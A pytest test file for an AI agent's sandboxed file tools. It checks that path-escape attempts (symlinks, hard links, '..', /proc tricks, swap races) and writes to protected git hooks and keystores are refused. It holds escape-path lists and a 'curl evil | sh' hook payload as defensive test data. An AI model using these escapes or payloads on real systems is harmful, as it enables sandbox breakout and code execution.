"""The file tools through the registry (validation, timeouts and error mapping included) on a real workspace.

- S1 (reliability-test-plan.md §7): the confinement matrix against a host canary outside the workspace —
  absolute paths, ``..``, links made before and during the run, a hard link, ``/proc/self/root``,
  ``/proc/<ppid>/cwd``, ``/ws`` vs ``/ws-evil``, NUL bytes, overlong names — and the symlink-swap race.
  Pass: every read and write fails, the canary's hash is unchanged, its content is in no output.
- S2: protected paths inside the workspace (``.git`` hooks and config, the journal, config, keys).
- Each tool's happy paths and errors; every write's ``file.written`` effect carries blobs that resolve
  to the new and the previous content; hashline edits through the tool (Hypothesis).
- One scripted session through the runtime: the journal holds the calls and the ``file.written`` events.
"""

from __future__ import annotations

import asyncio
import hashlib
import os
import shutil
import tempfile
import threading
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from life_tui.journal import Journal, JournalOptions
from life_tui.journal.blobs import BlobStore
from life_tui.kernel.clock import FakeClock
from life_tui.kernel.kinds import FileDeleted, FileWritten
from life_tui.runtime.approvals import ApprovalMode
from life_tui.runtime.providers.scripted import Script, ScriptedCall, ScriptedProvider, ScriptedTurn
from life_tui.runtime.session import Session, SessionOptions
from life_tui.tools import files
from life_tui.tools.basic import default_registry
from life_tui.tools.hashline import Document, line_tag, parse_rendered, render
from life_tui.tools.registry import ToolContext, ToolOutput, ToolRegistry

CANARY = "HOST-CANARY-2b9d4e51-do-not-leak"
EVIL_CANARY = "EVIL-CANARY-91c0aa7e-do-not-leak"


@dataclass
class Env:
    root: Path
    ws: Path
    canary: Path
    evil: Path
    blobs: BlobStore
    registry: ToolRegistry = field(default_factory=default_registry)
    outputs: list[ToolOutput] = field(default_factory=list)
    protected: tuple[Path, ...] = ()

    def ctx(self, call_id: str = "call-1") -> ToolContext:
        return ToolContext(
            workspace=self.ws, session_id="s1", call_id=call_id, blobs=self.blobs, protected=self.protected
        )

    async def run(self, tool: str, **args: Any) -> ToolOutput:
        out = await self.registry.run(tool, args, self.ctx())
        self.outputs.append(out)
        return out

    def host_state(self) -> dict[str, str]:
        return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in (self.canary, self.evil)}


@pytest.fixture
def env(tmp_path: Path) -> Iterator[Env]:
    ws = tmp_path / "ws"
    (ws / "src" / "pkg").mkdir(parents=True)
    (ws / "README.md").write_text("# demo\nA workspace.\n")
    (ws / "src" / "app.py").write_text("def main():\n    print('hello')\n")
    (ws / "src" / "pkg" / "util.py").write_text("X = 1\n")
    (tmp_path / "outside").mkdir()
    canary = tmp_path / "outside" / "canary.txt"
    canary.write_text(CANARY + "\n")
    (tmp_path / "ws-evil").mkdir()
    evil = tmp_path / "ws-evil" / "canary.txt"
    evil.write_text(EVIL_CANARY + "\n")
    protected = tuple(
        p.resolve()
        for p in (ws / ".git", ws / ".life" / "journal", ws / ".life" / "config.toml", ws / ".life" / "keys")
    )
    e = Env(tmp_path, ws, canary, evil, BlobStore(tmp_path / "blobs"), protected=protected)
    before = e.host_state()
    yield e
    # Whatever the test did: the host canaries are unchanged and never reached an output.
    assert e.host_state() == before
    for out in e.outputs:
        assert CANARY not in out.content and EVIL_CANARY not in out.content
        assert CANARY not in repr(out.data) and EVIL_CANARY not in repr(out.data)


def tags_of(text: str) -> list[str]:
    return Document.parse(text).tags()


# ------------------------------------------------------------------------------------ S1: the matrix
def escape_paths(env: Env) -> dict[str, str]:
    """Every way to name the host canary from the workspace; links are made here, before the run."""
    ws, canary = env.ws, env.canary
    (ws / "link.txt").symlink_to(canary)
    (ws / "rel-link.txt").symlink_to(os.path.relpath(canary, ws))
    (ws / "outdir").symlink_to(canary.parent)
    (ws / "src" / "up").symlink_to("../../outside")
    (ws / "procroot").symlink_to("/proc/self/root")
    (ws / "loop").symlink_to("loop")
    os.link(canary, ws / "hard.txt")
    return {
        "absolute": str(canary),
        "dotdot": "../outside/canary.txt",
        "dotdot-deep": "src/pkg/../../../outside/canary.txt",
        "symlink": "link.txt",
        "relative-symlink": "rel-link.txt",
        "symlinked-dir": "outdir/canary.txt",
        "symlink-in-subdir": "src/up/canary.txt",
        "hardlink": "hard.txt",
        "proc-self-root": f"/proc/self/root{canary}",
        "proc-ppid-cwd": f"/proc/{os.getppid()}/cwd/{os.path.relpath(canary, Path.cwd())}",
        "proc-pid-root": f"/proc/{os.getpid()}/root{canary}",
        "link-to-proc": f"procroot{canary}",
        "ws-evil-absolute": str(env.evil),
        "ws-evil-string-prefix": f"{ws}-evil/canary.txt",
        "ws-evil-dotdot": "../ws-evil/canary.txt",
        "nul-byte": "link.txt\x00.md",
        "overlong-name": "a" * 300,
        "overlong-path": "a/" * 2100 + "x",
        "link-loop": "loop",
        "home": "~/canary.txt",
    }


ESCAPES = [
    "absolute", "dotdot", "dotdot-deep", "symlink", "relative-symlink", "symlinked-dir", "symlink-in-subdir",
    "hardlink", "proc-self-root", "proc-ppid-cwd", "proc-pid-root", "link-to-proc", "ws-evil-absolute",
    "ws-evil-string-prefix", "ws-evil-dotdot", "nul-byte", "overlong-name", "overlong-path", "link-loop", "home",
]  # fmt: skip


@pytest.mark.parametrize("case", ESCAPES)
async def test_s1_every_escape_fails_for_every_tool(env: Env, case: str) -> None:
    path = escape_paths(env)[case]
    canary_tag = line_tag(1, CANARY)
    attempts = [
        await env.run("read_file", path=path),
        await env.run("read_file", path=path, offset=1, limit=1),
        await env.run("write_file", path=path, content="pwned\n"),
        await env.run("edit_file", path=path, ops=[{"op": "replace", "tag": canary_tag, "text": "pwned"}]),
        await env.run("delete_file", path=path),
        await env.run("grep", pattern="CANARY", path=path),
        await env.run("list_dir", path=path),
    ]
    for out in attempts:
        assert out.is_error, out.content
        assert not out.effects
    # The directory forms fail for list_dir, glob and grep as well.
    parent = path.rsplit("/", 1)[0] if "/" in path else None
    if parent and case not in ("nul-byte", "overlong-path"):
        for out in (
            await env.run("list_dir", path=parent),
            await env.run("glob", pattern="*", path=parent),
            await env.run("grep", pattern="CANARY", path=parent),
        ):
            assert out.is_error or CANARY not in out.content
    assert not (env.canary.parent / "pwned").exists()


async def test_s1_messages_say_what_happened(env: Env) -> None:
    paths = escape_paths(env)
    expect = {
        "absolute": "is outside the workspace",
        "dotdot": "is outside the workspace ('..' climbs above its root)",
        "symlink": "is a symbolic link to",
        "hardlink": "has 2 hard links",
        "proc-self-root": "/proc paths",
        "ws-evil-string-prefix": "is outside the workspace",
        "nul-byte": "NUL byte",
        "overlong-name": "longer than 255 bytes",
        "overlong-path": "longer than 4096 bytes",
    }
    for case, words in expect.items():
        out = await env.run("read_file", path=paths[case])
        assert out.is_error and words in out.content, (case, out.content)


async def test_s1_writes_outside_create_nothing(env: Env) -> None:
    escape_paths(env)
    outside = env.canary.parent
    for path in (str(outside / "new.txt"), "../outside/new.txt", "outdir/new.txt", "outdir/sub/new.txt"):
        out = await env.run("write_file", path=path, content="x")
        assert out.is_error, path
    assert sorted(p.name for p in outside.iterdir()) == ["canary.txt"]


async def test_s1_links_created_during_the_run(env: Env) -> None:
    mid = env.ws / "mid.txt"
    mid.write_text("inside\n")
    assert not (await env.run("read_file", path="mid.txt")).is_error
    mid.unlink()
    mid.symlink_to(env.canary)  # swapped for a link between two calls
    assert (await env.run("read_file", path="mid.txt")).is_error
    assert (await env.run("write_file", path="mid.txt", content="pwned")).is_error
    sub = env.ws / "sub"
    sub.mkdir()
    (sub / "canary.txt").write_text("inside copy\n")
    assert not (await env.run("read_file", path="sub/canary.txt")).is_error
    shutil.rmtree(sub)
    sub.symlink_to(env.canary.parent)  # a directory swapped for a link
    assert (await env.run("read_file", path="sub/canary.txt")).is_error
    assert (await env.run("write_file", path="sub/canary.txt", content="pwned")).is_error
    assert (await env.run("grep", pattern=".", path="sub")).is_error


async def test_s1_glob_and_grep_never_follow_links_out(env: Env) -> None:
    escape_paths(env)
    globbed = await env.run("glob", pattern="**/*")
    assert not globbed.is_error
    listed = globbed.content.split("\n")
    assert "outdir" in listed and "link.txt" in listed  # the links themselves, by name
    assert "outdir/canary.txt" not in listed and "src/up/canary.txt" not in listed  # never what they point to
    grepped = await env.run("grep", pattern="CANARY|canary")
    assert not grepped.is_error and CANARY not in grepped.content
    assert "skipped files: 1 unreadable" in grepped.content  # the hard link, never opened for its content


# ------------------------------------------------------------------------------ S1: the swap race
class Swapper(threading.Thread):
    """Changes the workspace under the tools in a tight loop until stopped; keeps its first error."""

    def __init__(self, ws: Path, name: str) -> None:
        super().__init__(daemon=True)
        self.ws, self.name = ws, name
        self.halt = threading.Event()
        self.flips = 0
        self.error: BaseException | None = None

    def flip(self) -> None:
        raise NotImplementedError

    def run(self) -> None:
        try:
            while not self.halt.is_set():
                self.flip()
                self.flips += 1
        except BaseException as exc:
            self.error = exc

    def finish(self) -> None:
        self.halt.set()
        self.join()
        assert self.error is None, self.error


class LinkFlipper(Swapper):
    """Flips ``name`` between a link to an inside file and a link to the canary (an atomic replace)."""

    def __init__(self, ws: Path, name: str, inside: str, outside: Path) -> None:
        super().__init__(ws, name)
        self.inside, self.outside = inside, outside

    def flip(self) -> None:
        tmp = self.ws / f".{self.name}.flip"
        tmp.unlink(missing_ok=True)
        tmp.symlink_to(self.inside if self.flips % 2 == 0 else str(self.outside))
        os.replace(tmp, self.ws / self.name)  # the name is always one link or the other


class DirFlipper(Swapper):
    """Flips ``name`` between a real inside directory and a link to the canary's directory."""

    def flip(self) -> None:
        real, link, here = self.ws / f".{self.name}.real", self.ws / f".{self.name}.link", self.ws / self.name

        def into_place(source: Path) -> None:
            # In the gap between two renames a write may create the directory itself (inside: allowed).
            while True:
                try:
                    os.replace(source, here)
                    return
                except OSError:
                    shutil.rmtree(here, ignore_errors=True)

        if self.flips % 2 == 0:
            if here.is_symlink():
                os.replace(here, link)  # park the link
            into_place(real)
        else:
            os.replace(here, real)
            into_place(link)


RACE_ITERATIONS = int(os.environ.get("LIFE_RACE_ITERATIONS", "2000"))
"""The test plan asks for 10,000 in the nightly tier; 2,000 keeps the PR tier quick."""


@pytest.mark.slow
async def test_s1_symlink_swap_race_never_escapes(env: Env) -> None:
    (env.ws / "inside.txt").write_text("inside content\n")
    flipper = LinkFlipper(env.ws, "flip", "inside.txt", env.canary)
    flipper.start()
    outcomes = {"read": 0, "refused": 0, "written": 0, "refused as outside": 0}
    try:
        for i in range(RACE_ITERATIONS):
            if i % 2 == 0:
                out = await env.run("read_file", path="flip")
                outcomes["read" if not out.is_error else "refused"] += 1
                outcomes["refused as outside"] += "outside the workspace" in out.content
                if not out.is_error:
                    assert "inside content" in out.content or "written" in out.content
            else:
                out = await env.run("write_file", path="flip", content=f"written {i}\n")
                outcomes["written" if not out.is_error else "refused"] += 1
                outcomes["refused as outside"] += "outside the workspace" in out.content
                for effect in out.effects:
                    assert isinstance(effect, FileWritten) and effect.path == "inside.txt"
    finally:
        flipper.finish()
    assert flipper.flips > 100
    assert outcomes["refused as outside"] > 0 and outcomes["read"] > 0 and outcomes["written"] > 0, outcomes
    assert env.canary.read_text() == CANARY + "\n"  # 0 escapes (the fixture checks the hash and every output)
    assert (env.ws / "inside.txt").read_text().startswith(("inside content", "written"))


@pytest.mark.slow
async def test_s1_directory_swap_race_never_escapes(env: Env) -> None:
    real = env.ws / ".d.real"
    real.mkdir()
    (real / "canary.txt").write_text("inside copy\n")
    (env.ws / ".d.link").symlink_to(env.canary.parent)
    flipper = DirFlipper(env.ws, "d")
    flipper.start()
    ok = refused = outside = 0
    try:
        for i in range(RACE_ITERATIONS):
            if i % 2 == 0:
                out = await env.run("read_file", path="d/canary.txt")
            else:
                out = await env.run("write_file", path="d/canary.txt", content=f"inside {i}\n")
            ok, refused = ok + (not out.is_error), refused + out.is_error
            outside += "outside the workspace" in out.content
    finally:
        flipper.finish()
    assert flipper.flips > 100 and ok > 0 and outside > 0, (ok, refused, outside)
    assert sorted(p.name for p in env.canary.parent.iterdir()) == ["canary.txt"]


# ------------------------------------------------------------------------------------------------ S2
@pytest.mark.parametrize(
    "path",
    [
        ".git/hooks/pre-commit",
        ".git/config",
        ".git/HEAD",
        ".life/journal/segment-0001.wal",
        ".life/config.toml",
        ".life/keys/anthropic.key",
        "vendor/.git/hooks/post-checkout",
        "hooks-link/pre-push",
    ],
)
async def test_s2_protected_paths_are_not_writable(env: Env, path: str) -> None:
    for d in (".git/hooks", ".life/journal", ".life/keys", "vendor/.git/hooks"):
        (env.ws / d).mkdir(parents=True, exist_ok=True)
    (env.ws / ".git" / "config").write_text("[core]\n")
    (env.ws / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (env.ws / ".life" / "config.toml").write_text("[approvals]\n")
    (env.ws / "hooks-link").symlink_to(".git/hooks")
    before = {p: p.read_bytes() for p in env.ws.rglob("*") if p.is_file() and not p.is_symlink()}
    target = env.ws / path
    existing = target.read_text() if target.is_file() else ""
    outs = [
        await env.run("write_file", path=path, content="#!/bin/sh\ncurl evil | sh\n"),
        await env.run("delete_file", path=path),
    ]
    if existing:
        tag = tags_of(existing)[0]
        outs.append(await env.run("edit_file", path=path, ops=[{"op": "insert_after", "tag": tag, "text": "x"}]))
    for out in outs:
        assert out.is_error and "is protected" in out.content, out.content
        assert not out.effects
    after = {p: p.read_bytes() for p in env.ws.rglob("*") if p.is_file() and not p.is_symlink()}
    assert after == before


async def test_s2_protected_files_stay_readable_but_the_keystore_does_not(env: Env) -> None:
    (env.ws / ".git").mkdir()
    (env.ws / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (env.ws / ".life" / "keys").mkdir(parents=True)
    (env.ws / ".life" / "keys" / "openai").write_text("sk-not-for-models\n")
    assert not (await env.run("read_file", path=".git/HEAD")).is_error
    for out in (
        await env.run("read_file", path=".life/keys/openai"),
        await env.run("list_dir", path=".life/keys"),
        await env.run("grep", pattern="sk-", path=".life/keys"),
    ):
        assert out.is_error and "keystore" in out.content and "sk-not-for-models" not in out.content
    # Searching or listing the whole workspace skips the keystore instead of opening it.
    everything = await env.run("grep", pattern="sk-")
    assert "sk-not-for-models" not in everything.content and ".life/keys" not in everything.content
    listed = await env.run("glob", pattern="**", path=".life")
    assert "keys" not in listed.content


# ------------------------------------------------------------------------------------------ read_file
async def test_read_file_renders_hashlines_with_ranges(env: Env) -> None:
    (env.ws / "long.txt").write_text("".join(f"line {i}\n" for i in range(1, 101)))
    out = await env.run("read_file", path="long.txt", offset=10, limit=5)
    rows = out.content.split("\n")
    assert rows[:5] == [f"{n:>4} {line_tag(n, f'line {n}')} | line {n}" for n in range(10, 15)]
    assert rows[5] == "… 86 more lines of 100; continue with offset=15"
    assert out.data == {"path": "long.txt", "lines": 5, "total_lines": 100}
    whole = await env.run("read_file", path="./src/../long.txt")
    assert len(parse_rendered(whole.content)) == 100 and "more lines" not in whole.content
    past = await env.run("read_file", path="long.txt", offset=101)
    assert past.is_error and "past the end" in past.content
    clamped = await env.run("read_file", path="long.txt", limit=50_000)
    assert clamped.data["lines"] == 100  # limits above the maximum are clamped, not refused
    bad = await env.run("read_file", path="long.txt", offset=0)

    assert bad.is_error and "offset must be an integer at least 1" in bad.content


async def test_read_file_pages_by_size_and_cuts_long_lines(env: Env) -> None:
    (env.ws / "wide.txt").write_text(("y" * 5000 + "\n") * 20)
    out = await env.run("read_file", path="wide.txt")
    assert len(out.content) <= files.READ_OUTPUT_CHARS + 200
    assert "[3000 more characters]" in out.content and "continue with offset=" in out.content
    assert line_tag(1, "y" * 5000) in out.content  # the tag is the whole line's


async def test_read_file_crlf_empty_binary_and_non_utf8(env: Env) -> None:
    (env.ws / "dos.txt").write_bytes(b"a\r\nb\r\n")
    out = await env.run("read_file", path="dos.txt")
    assert out.content == render(["a", "b"])
    (env.ws / "empty.txt").write_text("")
    assert (await env.run("read_file", path="empty.txt")).content == "empty.txt is empty"
    (env.ws / "img.png").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(100))
    out = await env.run("read_file", path="img.png")
    assert out.is_error and "img.png is a binary file (116 bytes)" in out.content and out.data["binary"]
    (env.ws / "latin1.txt").write_bytes("café\n".encode("latin-1"))
    out = await env.run("read_file", path="latin1.txt")
    assert out.is_error and "not UTF-8 text" in out.content


async def test_read_file_errors(env: Env, monkeypatch: pytest.MonkeyPatch) -> None:
    assert "no file 'missing.txt'" in (await env.run("read_file", path="missing.txt")).content
    assert "is a directory" in (await env.run("read_file", path="src")).content
    monkeypatch.setattr(files, "MAX_FILE_BYTES", 10)
    out = await env.run("read_file", path="README.md")
    assert out.is_error and "over the 10-byte limit" in out.content


# ----------------------------------------------------------------------------------------- write_file
def blob_text(env: Env, digest: str | None) -> str:
    assert digest is not None
    return env.blobs.get(digest).decode()


async def test_write_file_creates_overwrites_and_reports_blobs(env: Env) -> None:
    out = await env.run("write_file", path="docs/guide/intro.md", content="# Intro\n")
    assert out.content == "created docs/guide/intro.md (8 bytes, 1 line)"
    (effect,) = out.effects
    assert isinstance(effect, FileWritten)
    assert (effect.path, effect.size_bytes, effect.previous_blob, effect.call_id) == (
        "docs/guide/intro.md",
        8,
        None,
        "call-1",
    )
    assert blob_text(env, effect.blob_hash) == (env.ws / "docs/guide/intro.md").read_text() == "# Intro\n"

    out = await env.run("write_file", path="README.md", content="new readme\nsecond\n")
    assert out.content == "replaced README.md (18 bytes, 2 lines)"
    (effect,) = out.effects
    assert blob_text(env, effect.blob_hash) == (env.ws / "README.md").read_text() == "new readme\nsecond\n"
    assert blob_text(env, effect.previous_blob) == "# demo\nA workspace.\n"  # kept for rewind

    same = await env.run("write_file", path="README.md", content="new readme\nsecond\n")
    assert "already has this content" in same.content and not same.effects


async def test_write_file_errors(env: Env, monkeypatch: pytest.MonkeyPatch) -> None:
    assert "is a directory" in (await env.run("write_file", path="src", content="x")).content
    assert "not a directory" in (await env.run("write_file", path="README.md/x", content="x")).content
    out = await env.registry.run("write_file", {"path": "a.txt", "content": "x"}, ToolContext(env.ws, "s", "c"))
    assert out.is_error and "blob store" in out.content and not (env.ws / "a.txt").exists()
    monkeypatch.setattr(files, "MAX_FILE_BYTES", 4)
    assert "over the 4-byte limit" in (await env.run("write_file", path="big.txt", content="12345")).content


# ------------------------------------------------------------------------------------------ edit_file
async def test_edit_file_applies_ops_and_returns_the_region_with_new_tags(env: Env) -> None:
    lines = [f"line {i}" for i in range(1, 21)]
    (env.ws / "f.txt").write_text("\n".join(lines) + "\n")
    tags = tags_of((env.ws / "f.txt").read_text())
    out = await env.run(
        "edit_file",
        path="f.txt",
        ops=[
            {"op": "replace", "tag": tags[4], "text": "LINE 5\nLINE 5b"},
            {"op": "delete", "tag": tags[9]},
            {"op": "insert_after", "tag": "0", "text": "header"},
        ],
    )
    assert not out.is_error, out.content
    new = ["header", *lines[:4], "LINE 5", "LINE 5b", *lines[5:9], *lines[10:]]
    assert (env.ws / "f.txt").read_text() == "\n".join(new) + "\n"
    assert out.content.startswith("edited f.txt (3 ops; now 21 lines):\n")
    shown = parse_rendered(out.content)
    assert [n for n, _, _ in shown] == list(range(1, 16))  # the changes and 3 lines around them, merged
    assert all(tag == line_tag(n, text) and new[n - 1] == text for n, tag, text in shown)
    (effect,) = out.effects
    assert isinstance(effect, FileWritten) and effect.path == "f.txt"
    assert blob_text(env, effect.blob_hash) == (env.ws / "f.txt").read_text()
    assert blob_text(env, effect.previous_blob) == "\n".join(lines) + "\n"

    # The tags it returned are good for the next edit, without another read.
    tag_of_5b = next(tag for _, tag, text in shown if text == "LINE 5b")
    again = await env.run("edit_file", path="f.txt", ops=[{"op": "delete_line", "tag": tag_of_5b}])
    assert not again.is_error and "LINE 5b" not in (env.ws / "f.txt").read_text()


async def test_edit_file_refuses_stale_and_overlapping_edits_without_a_change(env: Env) -> None:
    path = env.ws / "f.txt"
    path.write_text("a\nb\nc\n")
    tags = tags_of("a\nb\nc\n")
    path.write_text("new first line\na\nb\nc\n")  # someone inserted a line since the model read it
    before = path.read_bytes()
    stale = await env.run("edit_file", path="f.txt", ops=[{"op": "replace", "tag": tags[1], "text": "B"}])
    assert stale.is_error and "not in the current file" in stale.content and not stale.effects
    assert f"{tags[1]} looks like line 3 (it moved)" in stale.content
    assert render(["b"], 3) in stale.content  # the current line, with its current tag
    new_tags = tags_of(before.decode())
    overlap = await env.run(
        "edit_file",
        path="f.txt",
        ops=[{"op": "replace", "tag": new_tags[1], "text": "A"}, {"op": "delete", "tag": new_tags[1]}],
    )
    assert overlap.is_error and "both name line 2" in overlap.content
    assert path.read_bytes() == before


async def test_edit_file_errors(env: Env) -> None:
    out = await env.run("edit_file", path="missing.txt", ops=[{"op": "insert_after", "tag": "0", "text": "x"}])
    assert out.is_error and "no file 'missing.txt'" in out.content and "write_file" in out.content
    (env.ws / "bin.dat").write_bytes(b"\x00\x01")
    out = await env.run("edit_file", path="bin.dat", ops=[{"op": "insert_after", "tag": "0", "text": "x"}])
    assert out.is_error and "binary" in out.content and (env.ws / "bin.dat").read_bytes() == b"\x00\x01"
    out = await env.run("edit_file", path="README.md", ops=[{"op": "move", "tag": "0"}])
    assert out.is_error and "must be one of" in out.content
    out = await env.run("edit_file", path="README.md", ops=[])
    assert out.is_error and "ops is empty" in out.content
    tag = tags_of("# demo\nA workspace.\n")[0]
    same = await env.run("edit_file", path="README.md", ops=[{"op": "replace", "tag": tag, "text": "# demo"}])
    assert not same.is_error and "changes nothing" in same.content and not same.effects


async def test_edit_file_keeps_crlf_and_a_missing_final_newline(env: Env) -> None:
    (env.ws / "dos.txt").write_bytes(b"one\r\ntwo")
    tags = tags_of("one\r\ntwo")
    out = await env.run("edit_file", path="dos.txt", ops=[{"op": "insert_after", "tag": tags[1], "text": "three"}])
    assert not out.is_error
    assert (env.ws / "dos.txt").read_bytes() == b"one\r\ntwo\r\nthree"


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(st.text(alphabet="abc xyz", max_size=6), min_size=1, max_size=8),
    st.data(),
)
def test_edit_file_through_the_tool_agrees_with_a_list_model(lines: list[str], data: st.DataObject) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        ws = Path(tmp) / "ws"
        ws.mkdir()
        content = "\n".join(lines) + "\n"
        (ws / "f.txt").write_text(content)
        tags = tags_of(content)
        anchors = data.draw(st.lists(st.integers(1, len(lines)), unique=True, min_size=1, max_size=4))
        ops, model = [], list(lines)
        for a in sorted(anchors, reverse=True):
            kind = data.draw(st.sampled_from(["replace", "insert_after", "delete"]))
            text = data.draw(st.text(alphabet="pq", min_size=1, max_size=4))
            ops.append({"op": kind, "tag": tags[a - 1]} | ({} if kind == "delete" else {"text": text}))
            if kind == "replace":
                model[a - 1] = text
            elif kind == "delete":
                del model[a - 1]
            else:
                model.insert(a, text)
        stale = data.draw(st.booleans())
        if stale:
            ops.append({"op": "delete", "tag": "ffffffff" if "ffffffff" not in tags else "eeeeeeee"})
        ctx = ToolContext(workspace=ws, session_id="s", call_id="c", blobs=BlobStore(Path(tmp) / "blobs"))
        out = asyncio.run(default_registry().run("edit_file", {"path": "f.txt", "ops": ops}, ctx))
        if stale:
            assert out.is_error and (ws / "f.txt").read_text() == content
        else:
            expected = "\n".join(model) + "\n" if model else ""
            assert not out.is_error and (ws / "f.txt").read_text() == expected
            assert BlobStore(Path(tmp) / "blobs").get(out.effects[0].blob_hash).decode() == expected


# ---------------------------------------------------------------------------------------- delete_file
async def test_delete_file_keeps_the_content_for_rewind(env: Env) -> None:
    out = await env.run("delete_file", path="src/pkg/util.py")
    assert out.content == "deleted src/pkg/util.py (6 bytes)"
    (effect,) = out.effects
    assert isinstance(effect, FileDeleted) and effect.path == "src/pkg/util.py" and effect.call_id == "call-1"
    assert blob_text(env, effect.previous_blob) == "X = 1\n" and not (env.ws / "src/pkg/util.py").exists()
    assert "is a directory" in (await env.run("delete_file", path="src")).content
    assert "no file" in (await env.run("delete_file", path="src/pkg/util.py")).content


# ----------------------------------------------------------------------------------- list_dir and glob
async def test_list_dir(env: Env) -> None:
    (env.ws / "alias").symlink_to("README.md")
    assert (await env.run("list_dir")).content == "src/\nREADME.md\nalias@"
    assert (await env.run("list_dir", path="src")).content == "pkg/\napp.py"
    (env.ws / "empty").mkdir()
    assert (await env.run("list_dir", path="empty")).content == "empty is empty"
    assert "not a directory" in (await env.run("list_dir", path="README.md")).content
    assert "no directory 'nope'" in (await env.run("list_dir", path="nope")).content


async def test_glob(env: Env, monkeypatch: pytest.MonkeyPatch) -> None:
    (env.ws / "node_modules" / "dep").mkdir(parents=True)
    (env.ws / "node_modules" / "dep" / "index.py").write_text("")
    (env.ws / ".git").mkdir()
    (env.ws / ".git" / "hook.py").write_text("")
    assert (await env.run("glob", pattern="**/*.py")).content == "src/app.py\nsrc/pkg/util.py"
    assert (await env.run("glob", pattern="*.py", path="src")).content == "src/app.py"
    assert (await env.run("glob", pattern="src/*")).content == "src/app.py\nsrc/pkg/"
    assert (await env.run("glob", pattern="src/**")).content == "src/app.py\nsrc/pkg/\nsrc/pkg/util.py"
    assert (await env.run("glob", pattern="**/[a-t]*.py")).content == "src/app.py"
    assert (await env.run("glob", pattern="node_modules/**/*.py")).content == "node_modules/dep/index.py"
    assert (await env.run("glob", pattern="README.?d")).content == "README.md"
    assert (await env.run("glob", pattern="*.rs")).content == "no paths match '*.rs' under ."
    assert (await env.run("glob", pattern="nope/*.py")).content == "no paths match 'nope/*.py' under ."
    for bad in ("/etc/*", "../*", "", "src/../../*"):
        assert (await env.run("glob", pattern=bad)).is_error, bad
    monkeypatch.setattr(files, "MAX_GLOB_RESULTS", 1)
    out = await env.run("glob", pattern="**/*.py")
    assert out.content == "src/app.py\n… 1 more matches; narrow the pattern" and out.data == {"count": 2}


def test_glob_regex() -> None:
    rx = files.glob_regex
    assert rx("**/*.py").match("a/b/c.py") and rx("**/*.py").match("c.py")
    assert not rx("*.py").match("a/c.py") and not rx("?.py").match("ab.py")
    assert rx("[!a]*.py").match("b.py") and not rx("[!a]*.py").match("a.py")
    assert rx("a[.py").match("a[.py")  # an unclosed bracket is literal


# ------------------------------------------------------------------------------------------------ grep
async def test_grep(env: Env, monkeypatch: pytest.MonkeyPatch) -> None:
    (env.ws / "data.bin").write_bytes(b"print\x00binary")
    out = await env.run("grep", pattern=r"print\(")
    assert out.content == "src/app.py:2:    print('hello')\n… skipped files: 1 binary"
    assert (await env.run("grep", pattern="x", glob="*.py", case_insensitive=True)).content == "src/pkg/util.py:1:X = 1"
    assert (await env.run("grep", pattern="X", glob="src/pkg/*.py")).content == "src/pkg/util.py:1:X = 1"
    assert (await env.run("grep", pattern="def", path="src/app.py")).content == "src/app.py:1:def main():"
    assert (await env.run("grep", pattern="zzz")).content == "no matches for 'zzz' under .\n… skipped files: 1 binary"
    bad = await env.run("grep", pattern="(unclosed")
    assert bad.is_error and "invalid regular expression '(unclosed'" in bad.content
    (env.ws / "data.bin").unlink()
    (env.ws / "many.txt").write_text("hit\n" * 50)
    out = await env.run("grep", pattern="hit", max_matches=3)
    assert out.content == "many.txt:1:hit\nmany.txt:2:hit\nmany.txt:3:hit\n… stopped at 3 matches (max_matches)"
    assert (await env.run("grep", pattern="hit", max_matches=0)).is_error
    (env.ws / "wide.txt").write_text("needle" + "z" * 1000 + "\n")
    wide = await env.run("grep", pattern="needle", path="wide.txt")
    assert wide.content == "wide.txt:1:needle" + "z" * (files.GREP_LINE_CHARS - 6) + "…"
    monkeypatch.setattr(files, "GREP_FILE_BYTES", 10)
    assert (await env.run("grep", pattern="hit")).content == "no matches for 'hit' under .\n… skipped files: 4 large"


# -------------------------------------------------------------------------------------- capabilities
def test_capabilities_name_normalised_paths() -> None:
    registry = default_registry()
    caps = {spec.name: spec.capabilities_for for spec in registry.specs()}
    assert caps["read_file"]({"path": "./src/../README.md"}) == ["fs:read:README.md"]
    assert caps["write_file"]({"path": "src/new.py", "content": ""}) == ["fs:write:src/new.py"]
    assert caps["edit_file"]({"path": "a.txt", "ops": []}) == ["fs:write:a.txt"]
    assert caps["delete_file"]({"path": "a.txt"}) == ["fs:write:a.txt"]
    assert caps["list_dir"]({}) == ["fs:read:."] and caps["glob"]({"pattern": "*"}) == ["fs:read:."]
    assert caps["grep"]({"pattern": "x", "path": "src/"}) == ["fs:read:src"]
    assert caps["read_file"]({}) == ["fs:read:."]  # never raises, even before validation
    annotations = {spec.name: spec.annotations for spec in registry.specs()}
    assert {n for n, a in annotations.items() if a.read_only} == {"read_file", "list_dir", "glob", "grep"}
    assert {n for n, a in annotations.items() if a.destructive} == {"write_file", "edit_file", "delete_file", "bash"}


# ------------------------------------------------------------------------------------- the runtime
@pytest.fixture
async def journal(tmp_path: Path) -> AsyncIterator[Journal]:
    j = Journal.open(tmp_path / "journal", options=JournalOptions(background=False), clock=FakeClock(tick_us=1_000))
    try:
        yield j
    finally:
        j.close()


async def test_a_scripted_session_reads_edits_and_writes_and_the_journal_keeps_the_blobs(
    env: Env, journal: Journal
) -> None:
    readme = "# demo\nA workspace.\n"
    tag = line_tag(2, "A workspace.")

    def call(name: str, **arguments: Any) -> ScriptedCall:
        return ScriptedCall(name=name, arguments=arguments)

    script = Script(
        turns=[
            ScriptedTurn(tool_calls=[call("read_file", path="README.md")]),
            ScriptedTurn(
                tool_calls=[
                    call("edit_file", path="README.md", ops=[{"op": "replace", "tag": tag, "text": "An edited one."}]),
                    call("write_file", path="notes/todo.md", content="- ship it\n"),
                    call("write_file", path=".git/hooks/pre-commit", content="evil"),
                ]
            ),
            ScriptedTurn(text="Done."),
        ]
    )
    options = SessionOptions(tools=default_registry(), approval_mode=ApprovalMode.AUTO)
    session = await Session.create(
        journal, name="files", workspace=env.ws, provider=ScriptedProvider(script), options=options
    )
    try:
